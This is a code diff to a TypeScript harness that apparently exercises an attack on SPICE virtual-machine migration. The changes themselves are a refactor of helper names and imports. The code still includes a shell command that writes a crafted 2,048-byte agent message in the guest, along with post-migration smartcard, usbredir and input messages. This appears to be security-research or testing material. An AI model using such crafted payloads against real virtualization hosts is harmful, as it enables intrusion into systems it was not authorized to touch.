@@ -1,15 +1,16 @@
 import type { SpiceChannel } from "../client/channel.js"
 import { inputsFromClient, mainFromClient, smartcardData, spicevmcData } from "../client/numbers.js"
+import { words } from "../client/words.js"
 import type { Host } from "../migrate/host.js"
-import { happens } from "./patience.js"
-import { usbredirHello, word } from "./scene.js"
+import { happens } from "../patience.js"
+import { usbredirHello } from "./scene.js"
 
 /** What shows late effects of an attack. */
 export type Step = () => Promise<unknown>
 
 /** A chunk of the agent's with a message in it of 2,048 bytes: headers as octal escapes, and zeros for the rest. */
 const chunk = (() => {
-  const headers = Buffer.concat([word(1), word(2048), word(1), word(4), word(0), word(0), word(2028)])
+  const headers = Buffer.concat([words(1), words(2048), words(1), words(4), words(0), words(0), words(2028)])
   const octal = [...headers].map((byte) => `\\${byte.toString(8).padStart(3, "0")}`).join("")
   return `printf '${octal}'; dd if=/dev/zero bs=2028 count=1 2>/dev/null`
 })()
@@ -29,15 +30,15 @@ const inGuest =
   }
 
 /** VSC_ReaderAdd: the device answers it through the buffer that was restored. */
-const readerAdd = Buffer.concat([word(3), word(0), word(0)])
+const readerAdd = Buffer.concat([words(3), words(0), words(0)])
 
 /** Ordinary messages of a client that goes on after the migration. */
 const goOn = async ({ name, send }: SpiceChannel): Promise<void> => {
   if (name === "main") send(mainFromClient.mouseModeRequest, Buffer.from([1, 0]))
   if (name === "inputs") {
-    send(inputsFromClient.mouseMotion, Buffer.concat([word(1), word(1), Buffer.alloc(2)]))
-    send(inputsFromClient.keyDown, word(0x1e))
-    send(inputsFromClient.keyUp, word(0x9e))
+    send(inputsFromClient.mouseMotion, Buffer.concat([words(1), words(1), Buffer.alloc(2)]))
+    send(inputsFromClient.keyDown, words(0x1e))
+    send(inputsFromClient.keyUp, words(0x9e))
   }
   if (name === "smartcard") send(smartcardData, readerAdd)
   if (name === "usbredir") send(spicevmcData, usbredirHello)
